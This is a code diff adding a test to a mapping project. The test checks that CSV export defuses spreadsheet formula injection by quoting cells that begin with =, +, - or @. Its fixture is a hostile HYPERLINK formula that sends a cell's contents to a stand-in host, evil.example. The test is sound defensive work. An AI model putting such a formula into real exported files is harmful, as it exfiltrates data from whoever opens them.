@@ -93,3 +93,23 @@ def test_geojson_polygons_follow_the_right_hand_rule(tmp_path, gazetteer):
     text = feature_collection(layers["frontline"])
     areas = [f for f in json.loads(text)["features"] if f["geometry"]["type"] == "Polygon"]
     assert areas and all(shape(f["geometry"]).exterior.is_ccw for f in areas)
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula():
+    import csv
+    import io
+
+    from geomap.export import export_files
+
+    west = Place("geonames:2", "Westville", "town", -3.5, 40.0, "ES")
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    events = [
+        Event("e1", "advance", "a1", hostile, 0, len(hostile), west, "@Westville", None, 3),
+        Event("e2", "shelling", "a1", "+1 strike", 0, 9, PLACE, "-Testville", None, 3),
+    ]
+    features = json.loads(events_geojson(events))["features"]
+    written = export_files({"events": features}, "csv")
+    rows = list(csv.DictReader(io.StringIO(written["events.csv"].decode())))
+    assert rows[0]["quote"] == "'" + hostile and rows[0]["place_name_as_written"] == "'@Westville"
+    assert rows[1]["quote"] == "'+1 strike" and rows[1]["place_name_as_written"] == "'-Testville"
+    assert rows[0]["lon"] == "-3.5"  # numbers stay numbers
